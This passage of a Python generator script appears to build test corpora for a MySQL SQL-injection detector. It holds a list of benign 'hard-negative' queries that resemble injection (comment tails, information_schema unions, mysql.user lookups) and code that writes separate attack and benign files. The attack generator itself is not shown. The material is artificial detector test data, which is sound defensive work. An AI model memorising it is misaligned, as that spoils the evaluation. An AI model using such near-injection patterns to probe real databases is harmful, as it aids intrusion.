    ("hard-negative", "SELECT * FROM items WHERE stock DIV 10 = 3"),
    ("hard-negative", "SELECT * FROM items WHERE price - -1 > 0"),
    ("hard-negative", "SELECT 1 FROM DUAL"),
    ("hard-negative", "SELECT * FROM items WHERE 1 AND category_id = 4"),
    ("hard-negative", "SELECT * FROM items WHERE TRUE AND category_id = 4"),
    ("hard-negative", "SELECT * FROM items WHERE id IN (SELECT item_id FROM cart_items WHERE cart_id = 9)"),
    ("hard-negative", "SELECT * FROM items WHERE EXISTS (SELECT 1 FROM reviews r WHERE r.item_id = items.id AND r.stars >= 4)"),
    ("hard-negative", "SELECT id, IF(stock > 0, 'in', 'out') AS availability FROM items ORDER BY FIELD(status, 'new', 'used'), id"),
    ("hard-negative", "SELECT id FROM items ORDER BY RAND() LIMIT 5"),
    ("hard-negative", "SELECT SQL_CALC_FOUND_ROWS * FROM items LIMIT 10"),
    ("hard-negative", "SELECT FOUND_ROWS()"),
    ("hard-negative", "SELECT LAST_INSERT_ID()"),
    ("hard-negative", "SELECT ROW_COUNT()"),
    ("hard-negative", "SELECT id, ASCII(name) AS initial FROM items WHERE id = 5"),
    ("hard-negative", "SELECT LEFT(name, 3), SUBSTRING(sku, 1, 4) FROM items WHERE id = 5"),
    ("hard-negative", "SELECT * FROM users WHERE password_hash = SHA2(CONCAT(salt, 'pw'), 256)"),
    ("hard-negative", "SELECT COUNT(*) FROM items WHERE created_at BETWEEN '2024-01-01' AND '2024-02-01'"),
    ("hard-negative", "SELECT `key`, `value` FROM `options` WHERE `key` = 'site_url'"),
    ("hard-negative", "SELECT /*+ MAX_EXECUTION_TIME(1000) */ * FROM orders WHERE customer_id = 5"),
    ("hard-negative", "SELECT * FROM orders /* controller='orders',action='index' */"),
    ("hard-negative", "SELECT * FROM orders WHERE id = 5 -- trailing note from a script"),
    ("hard-negative", "SELECT * FROM orders WHERE id = 5 # another note"),
    ("hard-negative", "SELECT * FROM orders USE INDEX (idx_customer) WHERE customer_id = 5"),
    ("hard-negative", "SELECT * FROM orders PARTITION (p2024) WHERE id = 5"),
    ("hard-negative", "SELECT user, host FROM mysql.user WHERE user = 'app'"),
    ("hard-negative", "SELECT table_name FROM information_schema.tables WHERE table_schema = 'shop' UNION ALL SELECT table_name FROM information_schema.views WHERE table_schema = 'shop'"),
    ("hard-negative", "WITH recent AS (SELECT * FROM orders WHERE created_at > '2024-01-01') SELECT customer_id, COUNT(*) FROM recent GROUP BY customer_id"),
    ("hard-negative", "SELECT id, ROW_NUMBER() OVER (PARTITION BY customer_id ORDER BY created_at) AS n FROM orders"),
]


def benign():
    rows = []
    for t, cols in MODELS:
        rows += [("django", s) for s in django(t, cols)]
        rows += [("rails", s) for s in rails(t, cols)]
        rows += [("laravel", s) for s in laravel(t, cols)]
        rows += [("hibernate", s) for s in hibernate(t, cols)]
        rows += [("sqlalchemy", s) for s in sqlalchemy(t, cols)]
    rows += LITERAL
    return rows


def esc(sql):
    return sql.replace("\\", "\\\\").replace("\n", "\\n")


def write(name, header, rows):
    with open(os.path.join(HERE, name), "w") as f:
        f.write(header)
        for tag, sql in rows:
            f.write("mysql\t%s\t%s\n" % (tag, esc(sql)))


if __name__ == "__main__":
    write(
        "mysql-attacks.txt",
        "# Generated by generate_mysql.py: MySQL / MariaDB injection payloads in application statements.\n"
        "# dialect<TAB>rule family<TAB>sql; lines starting with # are comments.\n",
        attacks(),
    )
    write(
        "mysql-benign.txt",
        "# Generated by generate_mysql.py: MySQL-dialect ORM, migration, session and admin traffic.\n"
        "# dialect<TAB>source<TAB>sql; lines starting with # are comments.\n",
        benign(),
    )
